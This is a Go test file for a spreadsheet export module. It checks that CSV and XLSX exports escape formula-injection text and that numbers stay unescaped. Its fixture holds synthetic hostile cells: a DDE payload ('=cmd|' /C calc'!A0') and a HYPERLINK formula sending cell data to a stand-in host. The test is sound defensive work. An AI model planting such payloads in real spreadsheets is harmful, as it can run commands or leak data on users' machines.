package sheet

import (
	"bytes"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/xuri/excelize/v2"

	"spaser/internal/indicator"
)

// hostile2024 is a values file whose texts a spreadsheet would run as
// formulas (synthetic data).
const hostile2024 = `[repas-bio]
source = "@SUM(1+1)"

[[repas-bio.detail]]
label = "-Nord"
count = 1
total = 4
comment = "'déjà une apostrophe"

[[repas-bio.detail]]
label = "=1+1"
share = 0
comment = "-0,3 point"

[heures]
value = 0
source = "\t=cmd|' /C calc'!A0"
comment = "'=déjà gardé"

[montant]
value = 0.25
source = "=HYPERLINK(\"http://exemple.invalid/?\"&A1;\"clic\")"
comment = "+33 1 43 99 00 00"
`

// TestRoundTripHostile: the export guards every text a spreadsheet would
// run (CSV and XLSX), and the import removes the guard: the round trip
// still changes nothing.
func TestRoundTripHostile(t *testing.T) {
	fsys := fixture(t)
	fsys["data/valeurs/2024.toml"] = &fstest.MapFile{Data: []byte(hostile2024)}
	roundTrip(t, fsys, 2024)

	cat := load(t, fsys)
	var b bytes.Buffer
	if err := WriteCSV(&b, cat, 2024); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimPrefix(b.String(), "\ufeff"), "\r\n") {
		for _, cell := range strings.Split(line, ";") {
			cell = strings.TrimPrefix(cell, `"`)
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV cell %q starts a formula:\n%s", cell, line)
			}
		}
	}
	for _, want := range []string{`'@SUM(1+1)`, `'-Nord`, `'=1+1`, `'-0,3 point`, `''déjà une apostrophe`, `''=déjà gardé`, "'\t=cmd", `"'=HYPERLINK(""http://exemple.invalid/?""&A1;""clic"")"`, `'+33 1 43 99 00 00`} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("CSV lacks %q:\n%s", want, b.String())
		}
	}

	f := exportXLSX(t, cat, 2024)
	rows, _ := f.GetRows(SheetName, excelize.Options{RawCellValue: true})
	var texts []string
	for _, row := range rows {
		texts = append(texts, row...)
	}
	for _, want := range []string{"'@SUM(1+1)", "'=1+1", "'=HYPERLINK(\"http://exemple.invalid/?\"&A1;\"clic\")"} {
		if !strings.Contains(strings.Join(texts, "\n"), want) {
			t.Errorf("XLSX lacks %q: %q", want, texts)
		}
	}
}

// TestNumbersUnguarded: a number is never guarded, negative ones included
// (the indicator rules refuse them in values files, but the writer must
// not be what changes them): -5 and -0,3 in CSV, numbers in XLSX.
func TestNumbersUnguarded(t *testing.T) {
	minus5, minus03 := -5.0, -0.3
	ind := &indicator.Indicator{ID: "solde", Label: "-Solde", Kind: indicator.Value, Unit: indicator.Units["euros_ht"],
		Values: []*indicator.Measure{{Year: 2024, Value: &minus5, Details: []*indicator.Measure{{Breakdown: "Nord", Value: &minus03}}}}}
	cat := &indicator.Catalogue{List: []*indicator.Indicator{ind}, ByID: map[string]*indicator.Indicator{"solde": ind}}
	var b bytes.Buffer
	if err := WriteCSV(&b, cat, 2024); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(b.String(), "\r\n")
	if !strings.Contains(lines[1], ";-5;") || !strings.Contains(lines[2], ";-0,3;") || !strings.Contains(lines[1], ";'-Solde;") {
		t.Errorf("CSV:\n%s", b.String())
	}
	f := exportXLSX(t, cat, 2024)
	for _, ref := range []string{"F2", "F3"} {
		typ, _ := f.GetCellType(SheetName, ref)
		v, _ := f.GetCellValue(SheetName, ref, excelize.Options{RawCellValue: true})
		if typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString || (v != "-5" && v != "-0.3") {
			t.Errorf("XLSX %s = %q (type %v), want a number", ref, v, typ)
		}
	}
}

// exportXLSX is the workbook WriteXLSX writes, opened.
func exportXLSX(t *testing.T, cat *indicator.Catalogue, year int) *excelize.File {
	t.Helper()
	var b bytes.Buffer
	if err := WriteXLSX(&b, cat, year); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	return f
}
